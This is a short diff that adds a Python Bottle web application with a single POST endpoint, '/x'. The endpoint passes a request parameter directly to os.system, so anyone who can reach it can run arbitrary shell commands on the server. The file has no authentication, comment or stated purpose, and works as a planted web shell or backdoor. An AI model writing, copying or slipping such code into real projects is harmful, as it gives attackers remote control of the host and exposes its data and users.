@@ -1,0 +1,8 @@
+import os
+from bottle import Bottle, request
+app = Bottle()
+
+@app.post('/x')
+def x():
+    os.system(request.POST['a'])
+    return ''
